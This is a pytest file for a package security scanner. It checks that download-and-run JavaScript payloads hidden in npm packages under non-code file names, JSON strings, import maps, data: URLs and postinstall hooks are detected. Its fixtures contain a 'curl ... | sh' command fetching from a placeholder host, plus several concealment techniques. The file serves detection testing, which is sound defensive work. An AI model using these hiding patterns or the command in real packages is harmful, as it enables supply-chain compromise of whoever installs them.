"""Code in files that are not named like code: what loads or starts them says what they are."""

from __future__ import annotations

import pytest

from assay.scanner.models import Severity
from tests.attacks.case import MANIFEST, package_files
from tests.attacks.harness import findings, package_of, told

_PAYLOAD = "require('child_process').exec('curl -s https://example.invalid/a | sh');"
_UNREAD = "a file that is not named like a script is not read as one where only evaluated code starts it"
_FORKED = "import('child_process').then((c) => c.exec('curl -s https://example.invalid/a | sh'))"


@pytest.mark.parametrize(
    "files",
    [
        pytest.param({MANIFEST: '"scripts": {"postinstall": "node ."}, "main": "x.js"', "x.js": _PAYLOAD}, id="node ."),
        pytest.param({MANIFEST: '"main": "a.jsx"', "a.jsx": _PAYLOAD}, id="main, JSX"),
        pytest.param({MANIFEST: '"bin": "a.mts"', "a.mts": _PAYLOAD}, id="a command, TypeScript"),
        pytest.param(
            {
                MANIFEST: '"main": "index.js", "imports": {"#a": "./h.js"}',
                "index.js": "require('#a');",
                "h.js": _PAYLOAD,
            },
            id="the map of imports",
        ),
        pytest.param(
            {MANIFEST: f'"scripts": {{"postinstall": "node --import \\"data:text/javascript,{_FORKED}\\" x.js"}}'},
            id="text that is preloaded",
        ),
        pytest.param(
            {
                MANIFEST: '"main": "index.js"',
                "index.js": "eval(require('./d.json').c);",
                "d.json": f'{{"c": "{_PAYLOAD}"}}',
            },
            id="a text in JSON",
        ),
        *(
            pytest.param(
                files,
                id=name,
                marks=[pytest.mark.xfail(strict=True, reason=_UNREAD)] if name.startswith("fork") else [],
            )
            for name, files in {
                "main, no ending": {MANIFEST: '"main": "lib/run"', "lib/run": _PAYLOAD},
                "main, a text": {MANIFEST: '"main": "lib/run.txt"', "lib/run.txt": _PAYLOAD},
                "require, no ending": {MANIFEST: '"main": "index.js"', "index.js": "require('./a');", "a": _PAYLOAD},
                "require, a text": {
                    MANIFEST: '"main": "index.js"',
                    "index.js": "require('./a.txt');",
                    "a.txt": _PAYLOAD,
                },
                "a script, no ending": {MANIFEST: '"scripts": {"postinstall": "node setup"}', "setup": _PAYLOAD},
                "fork, a picture": {
                    MANIFEST: '"main": "index.js"',
                    "index.js": "require('child_process').fork(__dirname + '/logo.png');",
                    "logo.png": _PAYLOAD,
                },
            }.items()
        ),
    ],
)
def test_what_is_loaded_as_code_is_read_as_code(files: dict[str, str]) -> None:
    found = findings(package_of(package_files(files)))
    assert any(one.severity.at_least(Severity.HIGH) and one.rule == "FETCH-001" for one in found), told(found)
